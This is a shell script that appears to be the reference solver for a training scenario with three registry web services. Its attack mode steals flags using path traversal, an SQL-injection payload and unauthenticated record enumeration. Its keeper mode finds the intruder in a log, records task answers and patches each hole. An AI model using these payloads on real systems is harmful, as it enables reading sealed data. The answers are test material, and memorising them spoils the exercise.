#!/bin/sh
# Plays the scenario as keeper on the registry's server, from what a trainee can see there. Prints its
# answers as lines of: answer, task, value, with tabs between; and its replies: reply, inject, text.
#
# With `attack TEAM...` it only takes what is secret at those registries, through the three holes, and
# prints it as lines of: flag, service, value.
set -eu
get() { curl -sS -m 5 -G "$@" || true; }
answer() { printf 'answer\t%s\t%s\n' "$1" "$2"; }

# Everything that is sealed at a registry, through the hole of one service.
rob_locker() {
    get "http://$1:4100/folders" | while read -r document; do
        get "http://$1:4100/document" -d folder=forms -d pin=public --data-urlencode "name=../$document"
    done
}
rob_search() { get "http://$1:4200/search" --data-urlencode "q=' OR sealed = 1 --"; }
rob_slots() {
    last=$(get "http://$1:4300/" | sed -n 's/^Bookings so far: //p')
    for number in $(seq "$((last > 50 ? last - 50 : 1))" "$last"); do
        get "http://$1:4300/calendar" -d "number=$number"
    done
}

attack() {
    for team in "$@"; do
        for service in locker search slots; do
            "rob_$service" "vault.$team" | grep -oE '(LCK|SRC|SLT)\{[A-Za-z0-9]+\}' | sort -u |
                while read -r flag; do printf 'flag\t%s\t%s\n' "$service" "$flag"; done
        done
    done
}

if [ "${1:-}" = attack ]; then
    shift
    attack "$@"
    exit 0
fi

# Who read something outside the folder that they had the PIN of: a name that climbs, and was found.
line=$(grep -E '"GET /document\?[^"]*name=(\.\.|%2e)[^"]*" 200$' /var/log/registry/locker.log | head -n 1)
answer prowler "$(echo "$line" | cut -d' ' -f2)"
answer class_locker traversal
answer class_search injection
answer class_slots authorisation
answer mark "$(rob_search localhost | grep -o 'RG{[^}]*}')"
printf 'reply\tministry\tAll three services had a weakness, and one sealed document was read. They are being mended while they stay open. Citizens may go on using them.\n'

cd /srv/registry
sed -i 's/^    if name == "pin":$/    name = os.path.basename(name)\n&/' locker/app.py
sed -i "s/^        f\" WHERE sealed = 0 AND person LIKE .*\$/        \" WHERE sealed = 0 AND person LIKE ? ORDER BY id DESC LIMIT 50\"/
s/database.execute(query)/database.execute(query, (f\"%{form.get('q', '')}%\",))/" search/app.py
sed -i 's/^    if row is None:$/    if row is None or row["code"] != form.get("code", ""):/' slots/app.py
for service in locker search slots; do
    sudo restart-service "$service"
done
